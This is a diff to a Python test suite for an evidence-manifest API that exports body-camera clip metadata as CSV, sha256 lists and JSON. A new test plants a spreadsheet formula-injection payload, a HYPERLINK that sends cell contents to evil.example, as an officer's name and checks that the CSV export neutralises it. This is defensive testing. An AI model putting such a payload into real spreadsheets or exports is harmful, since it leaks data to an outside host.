@@ -91,6 +91,11 @@ def test_manifest_as_csv_and_sha256sum(case, clerk, rec_disk):
     assert [r["id"] for r in rows] == [str(c.pk) for c in clips]
     assert [r["sha256"] for r in rows] == [c.sha256 for c in clips]
     assert rows[0]["size_bytes"] == str(len(clips[0].data)) and rows[0]["url"].startswith("http")
+    # a prosecutor reads who recorded each clip with which camera, not only their ids
+    assert rows[0]["officer"] == str(clips[0].officer_id) and rows[0]["officer_name"] == str(clips[0].officer)
+    assert (
+        rows[0]["device_serial"] == clips[0].device.serial and rows[0]["officer_badge"] == clips[0].officer.badge_number
+    )
     response = api.get(URL.format("2025/0815"), {"reason": "r", "format": "sha256"})
     assert response.status_code == 200 and response["Content-Type"].startswith("text/plain")
     assert response.content.decode().splitlines() == [f"{c.sha256}  {c.pk}.mp4" for c in clips]
@@ -135,3 +140,16 @@ def test_manifest_bad_input(query, status, clerk, case, rec_disk):
 def test_manifest_of_an_unknown_case_is_404(clerk):
     response = api_client(clerk).get(URL.format("NOPE-1"), {"reason": "r"})
     assert response.status_code == 404 and error_code(response) == "not_found"
+
+
+def test_manifest_csv_never_hands_a_spreadsheet_a_formula(case, clerk, rec_disk, officer):
+    officer.full_name, officer.badge_number = '=HYPERLINK("http://evil.example/?"&A1,"open")', "@4711"
+    officer.save()
+    case(rec_disk)
+    response = api_client(clerk).get(URL.format("2025/0815"), {"reason": "r", "format": "csv"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    mine = [r for r in rows if r["officer"] == str(officer.pk)]
+    assert mine and all(r["officer_name"] == "'" + officer.full_name for r in mine)
+    assert all(r["officer_badge"] == "'@4711" for r in mine)
+    json_entry = api_client(clerk).get(URL.format("2025/0815"), {"reason": "r"}).json()["clips"][0]
+    assert json_entry["officer_name"] == officer.full_name  # the JSON keeps the name as typed
